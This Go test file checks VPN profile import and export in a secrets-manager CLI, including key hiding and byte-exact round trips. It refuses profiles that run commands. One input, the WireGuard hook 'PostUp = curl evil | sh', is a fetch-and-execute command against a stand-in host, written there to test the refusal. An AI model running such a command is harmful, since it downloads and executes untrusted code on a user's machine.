//go:build linux

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

func wgKey(t *testing.T) (string, string) {
	t.Helper()
	priv, err := exec.Command("wg", "genkey").Output()
	if err != nil {
		t.Fatalf("wg genkey: %v", err)
	}
	pub := wgPub(t, string(priv))
	return strings.TrimSpace(string(priv)), pub
}

func wgPub(t *testing.T, priv string) string {
	t.Helper()
	cmd := exec.Command("wg", "pubkey")
	cmd.Stdin = strings.NewReader(priv)
	pub, err := cmd.Output()
	if err != nil {
		t.Fatalf("wg pubkey: %v", err)
	}
	return strings.TrimSpace(string(pub))
}

// TestVPNImport: `safe vpn import` of a wg-quick file made with real wg
// keys and of an OpenVPN profile with inline certificates and keys; the
// keys are hidden in `safe get`, and `safe vpn export` gives each file back
// byte for byte.
func TestVPNImport(t *testing.T) {
	if _, err := exec.LookPath("wg"); err != nil {
		t.Skip("no wg")
	}
	h := newProcHarness(t)
	h.must("ann", "init", "--password-file", h.pw)

	t.Run("wireguard", func(t *testing.T) {
		priv, pub := wgKey(t)
		_, peer1 := wgKey(t)
		_, peer2 := wgKey(t)
		psk, err := exec.Command("wg", "genpsk").Output()
		if err != nil {
			t.Fatal(err)
		}
		conf := fmt.Sprintf(`[Interface]
PrivateKey = %s
Address = 10.8.0.5/24, fd00:8::5/64
DNS = 10.8.0.1, corp.example
ListenPort = 51000
MTU = 1420

[Peer]
PublicKey = %s
PresharedKey = %s
Endpoint = vpn.example.com:51820
AllowedIPs = 10.8.0.0/24, 192.168.10.0/24
PersistentKeepalive = 25

[Peer]
PublicKey = %s
Endpoint = [2001:db8::7]:51820
AllowedIPs = ::/0
`, priv, peer1, strings.TrimSpace(string(psk)), peer2)
		file := filepath.Join(h.dir, "office.conf")
		os.WriteFile(file, []byte(conf), 0o600)
		out := h.must("ann", "vpn", "import", file)
		if !regexpMatch(`^Added vpn "office" \([0-9a-z]+\): WireGuard profile, 2 peer\(s\)`, out) {
			t.Fatalf("import said:\n%s", out)
		}
		shown := h.must("ann", "get", "office", "--json")
		if strings.Contains(shown, priv) || strings.Contains(shown, strings.TrimSpace(string(psk))) || !strings.Contains(shown, `"vpn": "********"`) {
			t.Fatalf("get shows the keys:\n%s", shown)
		}
		if got := h.must("ann", "vpn", "export", "office"); got != conf {
			t.Fatalf("export differs from the imported file:\n%s", got)
		}
		// The exported private key is the one wg made: its public key
		// matches.
		outFile := filepath.Join(h.dir, "out.conf")
		h.must("ann", "vpn", "export", "office", "--out", outFile)
		fi, _ := os.Stat(outFile)
		exported, _ := os.ReadFile(outFile)
		if fi.Mode().Perm() != 0o600 || !bytes.Equal(exported, []byte(conf)) {
			t.Fatalf("--out wrote mode %v:\n%s", fi.Mode(), exported)
		}
		m := regexp.MustCompile(`(?m)^PrivateKey = (\S+)$`).FindStringSubmatch(string(exported))
		if m == nil || wgPub(t, m[1]) != pub {
			t.Fatal("the exported private key does not give the original public key")
		}

		// A file with comments imports with a note; export is canonical.
		messy := "# office\n[interface]\nprivatekey=" + priv + "   # mine\n[Peer]\nPublicKey = " + peer1 + "\nAllowedIPs = 10.0.0.0/8\n"
		os.WriteFile(file, []byte(messy), 0o600)
		code, stdout, stderr := h.run("ann", "vpn", "import", file, "--title", "messy")
		if code != 0 || !strings.Contains(stderr, "note: the stored profile is the canonical form") {
			t.Fatalf("exit %d\n%s%s", code, stdout, stderr)
		}
		want := "[Interface]\nPrivateKey = " + priv + "\n\n[Peer]\nPublicKey = " + peer1 + "\nAllowedIPs = 10.0.0.0/8\n"
		if got := h.must("ann", "vpn", "export", "messy"); got != want {
			t.Fatalf("canonical export:\n%s", got)
		}

		// Hooks are refused, naming the line.
		os.WriteFile(file, []byte("[Interface]\nPrivateKey = "+priv+"\nPostUp = curl evil | sh\n"), 0o600)
		if code, _, stderr := h.run("ann", "vpn", "import", file); code != 11 || !strings.Contains(stderr, "line 3: PostUp: shell hooks are not imported") {
			t.Fatalf("hook: exit %d\n%s", code, stderr)
		}
	})

	t.Run("openvpn", func(t *testing.T) {
		profile, err := os.ReadFile(filepath.Join("..", "..", "internal", "openvpn", "testdata", "client.ovpn"))
		if err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(h.dir, "corp.ovpn")
		os.WriteFile(file, profile, 0o600)
		out := h.must("ann", "vpn", "import", file, "--title", "Corp VPN")
		if !strings.Contains(out, "OpenVPN profile; inline blocks as fields: ca, cert; hidden: key, tls-crypt") {
			t.Fatalf("import said:\n%s", out)
		}
		// Keys are hidden fields; certificates and the config are shown.
		var it struct {
			Type   string `json:"type"`
			Fields []struct {
				Name, Kind, Value string
			} `json:"fields"`
		}
		if err := json.Unmarshal([]byte(h.must("ann", "get", "Corp VPN", "--json")), &it); err != nil {
			t.Fatal(err)
		}
		kinds := map[string]string{}
		for _, f := range it.Fields {
			kinds[f.Name] = f.Kind
			if (f.Kind == "hidden") != (f.Value == "********") {
				t.Errorf("field %s (%s) shows %q", f.Name, f.Kind, f.Value)
			}
		}
		want := map[string]string{"openvpn.config": "text", "openvpn.ca": "text", "openvpn.cert": "text", "openvpn.key": "hidden", "openvpn.tls-crypt": "hidden"}
		if it.Type != "vpn" || fmt.Sprint(kinds) != fmt.Sprint(want) {
			t.Fatalf("type %s, fields %v", it.Type, kinds)
		}
		if shown := h.must("ann", "get", "Corp VPN"); strings.Contains(shown, "PRIVATE KEY") || strings.Contains(shown, "Static key") {
			t.Fatalf("get shows a key:\n%s", shown)
		}
		if got := h.must("ann", "vpn", "export", "Corp VPN"); got != string(profile) {
			t.Fatalf("export differs from the imported file:\n%s", got)
		}
		if got := h.must("ann", "get", "Corp VPN", "--field", "openvpn.key", "--reveal"); !strings.Contains(got, "-----BEGIN PRIVATE KEY-----") {
			t.Fatalf("revealed key:\n%s", got)
		}

		// A profile that runs a command, or keeps its key in a file, is
		// refused with the line named; nothing is added.
		bad := strings.Replace(string(profile), "verb 3\n", "verb 3\nscript-security 2\nup /etc/openvpn/update-resolv-conf\n", 1)
		os.WriteFile(file, []byte(bad), 0o600)
		if code, _, stderr := h.run("ann", "vpn", "import", file, "--title", "bad"); code != 11 || !strings.Contains(stderr, "line 16: up runs a command") {
			t.Fatalf("up: exit %d\n%s", code, stderr)
		}
		os.WriteFile(file, []byte("client\nremote vpn.example.com 1194\nkey client.key\n"), 0o600)
		if code, _, stderr := h.run("ann", "vpn", "import", file, "--title", "bad"); code != 11 || !strings.Contains(stderr, `line 3: key refers to the file "client.key"`) {
			t.Fatalf("key file: exit %d\n%s", code, stderr)
		}
		if code, _, _ := h.run("ann", "get", "bad"); code != 4 {
			t.Fatalf("a refused profile was added (get: exit %d)", code)
		}
		if code, _, stderr := h.run("ann", "vpn", "import", file, "--format", "ipsec"); code != 2 {
			t.Fatalf("--format ipsec: exit %d\n%s", code, stderr)
		}
	})
}
